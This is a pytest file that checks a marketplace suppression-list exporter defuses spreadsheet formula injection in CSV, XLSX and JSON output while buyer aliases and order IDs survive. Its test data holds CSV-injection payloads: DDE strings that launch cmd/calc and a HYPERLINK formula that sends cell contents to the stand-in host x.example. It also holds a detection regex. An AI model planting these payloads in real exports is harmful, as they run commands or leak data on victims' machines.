"""Texts that a spreadsheet would run: none of them starts a cell, and the buyers beside them import as they are."""

from __future__ import annotations

import csv
import io
import json
import re

import openpyxl
import pytest

from bounce_watch.records.ids import Alias, OrderId
from bounce_watch.records.opt_out import SuppressionEntry
from bounce_watch.suppression.export import render_export
from bounce_watch.suppression.preset import Format, Preset, load_preset, parse_preset, preset_names
from bounce_watch.text.tables import aliases_in, order_ids_in
from tests.suppression.export_samples import entry

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "|",
    "\t=",
    "\r=",
    "\n=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\uff5c",
    "\u2212",
)
BEFORE = ("", " ", '"', "'\"", "\u200b", "\ufeff", "\u00a0", '" "')
BODIES = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"look")', "SUM(1+9)*cmd|' /C x'!A0")
PAYLOADS = [f"{before}{start}{body}" for start in STARTS for before in BEFORE for body in BODIES[:2]] + [
    *(f"{start}{body}" for start in STARTS[:5] for body in BODIES[2:]),
    *(f"note{between}={body}" for between in (",", ";", "\t", "\r\n", '";"', "; ") for body in BODIES),
    *('DDE ("cmd";"/C calc";"x")', '=DDE("cmd";"/C calc")', "@SUM(A1)", "%0A-3+3+cmd|' /C calc'!D2"),
]
RUNS = re.compile(r"""[\s"\x00-\x1f\x7f-\xa0\u200b\ufeff]*[=+\-@|\uff1d\uff0b\uff0d\uff20\uff5c\u2212]""")
"""How a cell starts that a spreadsheet runs, or one that drops blanks, quotes and the unseen first."""

EVERYTHING = """
description = "every free text there is"
key = "both"
rows = "{rows}"
{lines}
columns = [
  {{ header = "note", source = "reason" }}, {{ header = "account", source = "account" }},
  {{ header = "order", source = "{order}" }}, {{ header = "market", source = "marketplace" }},
  {{ header = "alias", source = "alias" }}, {{ header = "again", source = "reason" }},
]
"""


def everything(name: str, lines: str, *, by_order: bool = False) -> Preset:
    rows, order = ("order", "order_id") if by_order else ("alias", "order_ids")
    return parse_preset(name, EVERYTHING.format(rows=rows, order=order, lines=lines))


PRESETS = [
    *map(load_preset, preset_names()),
    *(everything(each, f'delimiter = "{each}"') for each in ("comma", "semicolon", "tab")),
    everything("orders-cp932", 'encoding = "utf-16"', by_order=True),
    *(everything(each, f'format = "{each}"') for each in ("json", "json_lines", "xlsx")),
]


def listed() -> list[SuppressionEntry]:
    return [
        entry(
            Alias(f"buyer{number:05}x", "amazon.co.uk"),
            OrderId(f"203-{number:07}-0000001"),
            OrderId(f"203-{number:07}-0000002"),
            account=payload,
            reason=payload,
            marketplace=payload,
        )
        for number, payload in enumerate(PAYLOADS)
    ]


def cells(preset: Preset, octets: bytes) -> list[list[str]]:
    """Every row as an independent reader reads it; of a sheet, strings only."""
    if preset.format is Format.CSV:
        text = octets.decode(preset.encoding)
        return list(csv.reader(io.StringIO(text, newline=""), delimiter=preset.delimiter, strict=True))
    sheet = openpyxl.load_workbook(io.BytesIO(octets)).active
    assert sheet is not None
    rows = [[cell for cell in row if cell.value is not None] for row in sheet.iter_rows()]
    assert {cell.data_type for row in rows for cell in row} <= {"s", "n"}
    return [[str(cell.value) for cell in row] for row in rows]


def test_there_are_enough_of_them_and_the_search_finds_them() -> None:
    assert len(set(PAYLOADS)) >= 200
    assert sum(RUNS.match(payload) is not None for payload in PAYLOADS) >= 200
    assert not RUNS.match("'=1")
    assert not RUNS.match("buyer00001x@marketplace.amazon.co.uk")


@pytest.mark.parametrize("preset", PRESETS, ids=lambda preset: preset.name)
def test_no_payload_starts_a_cell_and_every_buyer_imports(preset: Preset) -> None:
    octets = b"".join(render_export(listed(), preset))
    if preset.format in {Format.JSON, Format.JSON_LINES}:
        lines = octets.splitlines()
        whole = json.loads(octets) if preset.format is Format.JSON else [json.loads(line) for line in lines]
        assert octets.isascii()
        found = json.dumps(whole)
    else:
        rows = cells(preset, octets)
        assert not [cell for row in rows for cell in row if RUNS.match(cell)]
        found = "\n".join(" ".join(row) for row in rows)
    aliases = {str(alias) for alias in aliases_in(found, frozenset({"amazon.co.uk"}))}
    orders = {order.value for order in order_ids_in(found)}
    every = range(len(PAYLOADS))
    if preset.key.value != "order":
        assert aliases == {f"buyer{number:05}x@marketplace.amazon.co.uk" for number in every}
    if preset.key.value != "alias":
        assert orders == {f"203-{number:07}-000000{last}" for number in every for last in (1, 2)}


@pytest.mark.parametrize("other", [",", ";", "\t"])
@pytest.mark.parametrize(
    "preset", [each for each in PRESETS if each.format is Format.CSV], ids=lambda each: each.name
)
def test_none_starts_a_cell_where_another_delimiter_is_meant(preset: Preset, other: str) -> None:
    """A spreadsheet of another country cuts inside what we hold together with quotes."""
    text = b"".join(render_export(listed(), preset)).decode(preset.encoding)
    cut = [cell.lstrip(preset.delimiter) for line in text.splitlines() for cell in line.split(other)]
    assert not [cell for cell in cut if RUNS.match(cell)]


def test_a_note_in_json_is_the_note() -> None:
    preset = load_preset("jsonl")
    lines = b"".join(render_export(listed(), preset)).splitlines()
    assert [json.loads(line)["reason"] for line in lines] == PAYLOADS
